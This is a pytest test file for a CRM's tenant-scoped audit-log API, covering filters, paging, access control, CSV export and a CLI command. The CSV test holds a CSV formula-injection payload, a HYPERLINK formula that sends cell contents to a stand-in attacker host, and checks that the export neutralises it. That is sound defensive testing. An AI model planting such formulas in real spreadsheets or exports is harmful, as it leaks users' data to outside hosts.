"""``GET /api/audit``: the audit log that every domain writes, read by a tenant's admins."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from typer.testing import CliRunner

from socialcrm.cli import app
from socialcrm.core import audit
from socialcrm.core.db import Database
from socialcrm.core.principal import Role
from socialcrm.tenancy.models import Tenant
from tests.conftest import make_api_key, make_tenant


def _error(answer: Any, status: int, code: str) -> dict[str, Any]:
    assert answer.status_code == status, answer.text
    error: dict[str, Any] = answer.json()["error"]
    assert error["code"] == code
    return error


def _tenant_id(database: Database, name: str = "Tenant A") -> int:
    with database.session(system=True) as session:
        return int(session.scalars(select(Tenant.id).where(Tenant.name == name)).one())


def _entries(database: Database, *rows: tuple[str, str, str, str, datetime]) -> None:
    """Audit rows at given times (actor, action, target type, target id, when)."""
    with database.session(tenant_id=_tenant_id(database)) as session:
        for actor, action, target_type, target_id, when in rows:
            entry = audit.record(
                session, actor=actor, action=action, target_type=target_type, target_id=target_id
            )
            entry.created_at = when


def _at(day: int, hour: int = 12) -> datetime:
    return datetime(2026, 3, day, hour, tzinfo=UTC)


def test_what_the_api_did_is_listed_newest_first_and_only_for_the_tenant(
    api: TestClient, database: Database
) -> None:
    contact = api.post("/api/contacts", json={"name": "Ada"}).json()
    policy = api.get("/api/identity/settings").json()
    assert api.put("/api/identity/settings", json=policy | {"rate_limit_per_minute": 7}).is_success
    with database.session(system=True) as session:
        other = make_api_key(session, tenant=make_tenant(session, name="Tenant B"))
    assert api.post(
        "/api/contacts", json={"name": "Bob"}, headers={"Authorization": f"Bearer {other}"}
    ).is_success

    log = api.get("/api/audit")
    assert log.status_code == 200, log.text
    items = log.json()["items"]
    assert [(e["action"], e["target_type"]) for e in items] == [
        ("identity.settings.update", "tenant"),
        ("contact.create", "contact"),
    ]
    assert items[1]["target_id"] == str(contact["id"])
    assert items[1]["actor"].startswith("api_key:")
    assert log.json()["next_cursor"] is None
    assert [e["action"] for e in api.get("/api/audit?action=contact.create").json()["items"]] == [
        "contact.create"
    ]
    assert api.get(f"/api/audit?target=contact:{contact['id']}").json()["items"] == [items[1]]


def test_filters_and_cursor_pages(api: TestClient, database: Database) -> None:
    _entries(
        database,
        ("user:1", "identity.review.merge", "identity_review", "5", _at(1)),
        ("user:2", "identity.review.reject", "identity_review", "6", _at(2)),
        ("system", "ticket.sla_breached", "ticket", "9", _at(3)),
        ("user:1", "social_account.disconnect", "social_account", "3", _at(31, 23)),
    )

    def actions(query: str) -> list[str]:
        answer = api.get(f"/api/audit?{query}")
        assert answer.status_code == 200, answer.text
        return [e["action"] for e in answer.json()["items"]]

    assert actions("actor=user:1") == ["social_account.disconnect", "identity.review.merge"]
    assert actions("action=identity.*") == ["identity.review.reject", "identity.review.merge"]
    assert actions("action=identity") == []  # exact unless it ends in *
    assert actions("action=identity_*") == []  # _ and % are literal, not wildcards
    assert actions("target=ticket") == ["ticket.sla_breached"]
    assert actions("target=identity_review:6") == ["identity.review.reject"]
    assert actions("from=2026-03-02&to=2026-03-03") == [
        "ticket.sla_breached",
        "identity.review.reject",
    ]  # a date as "to" is its whole day
    assert actions("to=2026-03-02T12:00:00Z") == ["identity.review.merge"]  # exclusive
    assert actions("from=2026-03-31T23:00:00%2B01:00") == ["social_account.disconnect"]

    seen: list[str] = []
    cursor = ""
    for _ in range(10):
        page = api.get(f"/api/audit?limit=3&cursor={cursor}").json()
        seen += [e["action"] for e in page["items"]]
        if page["next_cursor"] is None:
            break
        cursor = page["next_cursor"]
    assert seen == actions("limit=500") and len(seen) == 4


@pytest.mark.parametrize(
    "query",
    [
        "cursor=abc",
        "cursor=-1",
        "from=yesterday",
        "to=2026-13-01",
        "from=2026-03-05&to=2026-03-01",
        "limit=0",
        "limit=501",
        "format=xml",
    ],
)
def test_bad_cursor_dates_and_limits_are_400(api: TestClient, query: str) -> None:
    _error(api.get(f"/api/audit?{query}"), 400, "validation_error")


def test_only_admins_read_the_audit_log(app_client: TestClient, database: Database) -> None:
    with database.session(system=True) as session:
        key = make_api_key(session, tenant=make_tenant(session), role=Role.AGENT)
    headers = {"Authorization": f"Bearer {key}"}
    _error(app_client.get("/api/audit", headers=headers), 403, "forbidden")
    _error(app_client.get("/api/audit?format=csv", headers=headers), 403, "forbidden")
    _error(app_client.get("/api/audit"), 401, "unauthenticated")


def test_csv_export_is_safe_to_open_in_a_spreadsheet(api: TestClient, database: Database) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    _entries(
        database,
        ("user:1", "contact.update", "contact", hostile, _at(1)),
        ("user:1", "contact.update", "contact", "+1-555-0100", _at(2)),
        ("user:1", "contact.update", "contact", "\t=1+2", _at(3)),
        ("user:1", "contact.update", "contact", "@SUM(A1)", _at(4)),
        ("user:1", "contact.update", "contact", "-42", _at(5)),
    )
    with database.session(system=True) as session:
        other = make_api_key(session, tenant=make_tenant(session, name="Tenant B"))
    api.post("/api/contacts", json={"name": "B"}, headers={"Authorization": f"Bearer {other}"})

    answer = api.get("/api/audit?format=csv")
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in answer.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert list(rows[0]) == [
        "id", "created_at", "actor", "action", "target_type", "target_id", "details",
    ]  # fmt: skip
    targets = [r["target_id"] for r in rows]
    assert targets == ["-42", "'@SUM(A1)", "'\t=1+2", "'+1-555-0100", "'" + hostile]
    for cell in (c for r in rows for c in r.values()):
        assert cell[:1] not in ("=", "+", "@", "\t", "\r")
    assert "contact.create" not in answer.text  # tenant B's entry is not exported
    filtered = api.get("/api/audit?format=csv&to=2026-03-02").text
    assert len(list(csv.DictReader(io.StringIO(filtered)))) == 2
    _error(api.get("/api/audit?format=csv&from=nope"), 400, "validation_error")


def test_the_command_line_lists_the_audit_log(api: TestClient, database: Database) -> None:
    _entries(
        database,
        ("user:1", "identity.review.merge", "identity_review", "5", _at(1)),
        ("system", "ticket.sla_breached", "ticket", "9", _at(3)),
    )
    runner = CliRunner()
    listed = runner.invoke(app, ["audit", "list", "--tenant", "Tenant A", "--action", "ticket.*"])
    assert listed.exit_code == 0, listed.output
    lines = listed.output.strip().splitlines()
    assert lines == [
        "when (UTC)\tactor\taction\ttarget",
        "2026-03-03 12:00:00\tsystem\tticket.sla_breached\tticket:9",
    ]
    exported = runner.invoke(app, ["audit", "list", "--tenant", "Tenant A", "--csv"])
    assert exported.exit_code == 0
    assert len(list(csv.DictReader(io.StringIO(exported.output)))) == 2
    bad = runner.invoke(app, ["audit", "list", "--tenant", "Tenant A", "--from", "soon"])
    assert bad.exit_code == 2 and "ISO 8601" in bad.output


@pytest.mark.parametrize(
    "query",
    ["to=9999-12-31", "from=0001-01-01T00:00:00%2B01:00", "cursor=999999999999999999"],
)
def test_edges_of_the_calendar_and_of_ids_are_no_server_error(api: TestClient, query: str) -> None:
    answer = api.get(f"/api/audit?{query}")
    assert answer.status_code in (200, 400), answer.text
